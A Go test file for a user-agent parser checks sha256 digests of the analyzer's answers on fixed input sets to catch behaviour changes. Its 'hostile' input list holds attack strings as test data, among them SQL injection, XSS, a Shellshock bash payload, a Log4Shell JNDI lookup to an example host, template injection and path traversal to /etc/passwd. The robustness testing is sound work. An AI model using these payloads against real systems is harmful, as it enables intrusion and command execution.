package uaparse

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"strings"
	"testing"
)

// goldenSets are the sha256 digests of every answer of the analyzer on
// fixed inputs, recorded before the speed work on the matcher. Work that
// only makes the analyzer faster must leave them unchanged; a deliberate
// change of a rule changes them and must record the new digests in the
// same commit, saying so.
var goldenSets = map[string]string{
	"dev":          "0802f632b9cb31a987b415df7cf0ced57d8ce72e7dfacdd4bf4a8d43051fa20b",
	"dev-variants": "5e8ad0e0354295d009ef4cd09a37edf1522d71a4c788f9cc664269c9fb6500d1",
	"access-log":   "4bf06afb17b4b348df64e383ee24e6206d1cb10a9be86eff1d488cd8062cf158",
	"hostile":      "01a37bd32b75619f5f9bc890d478ac6ebd5cf96ca8ae6c1f1179397e7f8ea4b3",
}

// accessLogLineUserAgents returns the user agent of every line of the real
// access log, in order and with repetitions: the text between the last two
// quotes. One line of the log lost its closing quote; its user agent is the
// text after the last quote.
func accessLogLineUserAgents(t *testing.T) []string {
	t.Helper()
	f, err := os.Open(accessLog)
	if err != nil {
		t.Fatalf("open access log: %v", err)
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<16), 1<<20)
	for sc.Scan() {
		line := strings.TrimRight(sc.Text(), " \r")
		line = strings.TrimSuffix(line, "\"")
		k := strings.LastIndexByte(line, '"')
		if k < 0 {
			continue
		}
		out = append(out, line[k+1:])
	}
	if err := sc.Err(); err != nil {
		t.Fatalf("read access log: %v", err)
	}
	return out
}

// goldenInputs returns the input sets whose answers are hashed. Besides
// the DEV and access log user agents, the variants (upper case, lower
// case, each half) exercise case-insensitive matching and signatures cut
// at the end of the string, where a faster matcher is most likely to
// differ from the scans it replaces.
func goldenInputs(t *testing.T) map[string][]string {
	t.Helper()
	cases := loadDev(t)
	dev := make([]string, len(cases))
	var variants []string
	for i, c := range cases {
		dev[i] = c.UA
		variants = append(variants, strings.ToUpper(c.UA), strings.ToLower(c.UA),
			c.UA[:len(c.UA)/2], c.UA[len(c.UA)/2:])
	}
	hostile := []string{
		"", "   ", strings.Repeat("Mozilla/5.0 (X11; Linux) ", 1<<16), strings.Repeat("a", maxLength+1),
		strings.Repeat("a", maxLength), "Mozilla/5.0' UNION SELECT 1,2,3--", "1' AND SLEEP(5)--",
		"<script>alert(1)</script>", "() { :;}; /bin/bash -c 'echo vulnerable'", "${jndi:ldap://example.com/a}",
		"{{7*7}}", "../../../../etc/passwd", "..%2f..%2f..%2fboot.ini", "<!--#exec cmd=\"ls\"-->",
		"https://example.com/page", "\x00\x01\x02\xff\xfe\x80",
		"Mozilla/5.0 (Windows NT 10.0; \xff\xfe) Gecko/20100101 Firefox/120.0",
		strings.Repeat("(", 1500), strings.Repeat(")", 1500), strings.Repeat("(a;", 600) + strings.Repeat(")", 600),
		strings.Repeat("a/", 1000), strings.Repeat(";", 2000), "Mozilla/5.0\x00(Windows NT 10.0)",
		"Mozilla%2F5.0+%28Linux%3B+Android+9%29", "[FBAN/FB4A;FBAV/1.0;]", "a/b/c (d; e [f; g] {h})",
	}
	return map[string][]string{
		"dev":          dev,
		"dev-variants": variants,
		"access-log":   accessLogLineUserAgents(t),
		"hostile":      hostile,
	}
}

// TestGoldenAnswers checks that the analyzer gives exactly the recorded
// answers: the sha256 of the JSON of every attribute map, in input order.
// With UAPARSE_GOLDEN_DUMP=dir it also writes each set's JSON lines to
// dir/<set>.jsonl, so that a changed digest can be traced with diff to the
// user agents whose answers changed.
func TestGoldenAnswers(t *testing.T) {
	dump := os.Getenv("UAPARSE_GOLDEN_DUMP")
	a := New(Options{})
	for name, uas := range goldenInputs(t) {
		h := sha256.New()
		var lines strings.Builder
		for _, ua := range uas {
			m := map[string]string{"": ua}
			a.Analyze(ua).Each(func(n, v string) { m[n] = v })
			b, err := json.Marshal(m)
			if err != nil {
				t.Fatalf("encode answer: %v", err)
			}
			h.Write(b)
			h.Write([]byte{'\n'})
			if dump != "" {
				lines.Write(b)
				lines.WriteByte('\n')
			}
		}
		if dump != "" {
			if err := os.WriteFile(dump+"/"+name+".jsonl", []byte(lines.String()), 0o644); err != nil {
				t.Fatalf("dump %s: %v", name, err)
			}
		}
		got := hex.EncodeToString(h.Sum(nil))
		if got != goldenSets[name] {
			t.Errorf("answers on %s (%d user agents) changed: sha256 %s, recorded %s", name, len(uas), got, goldenSets[name])
		}
	}
}
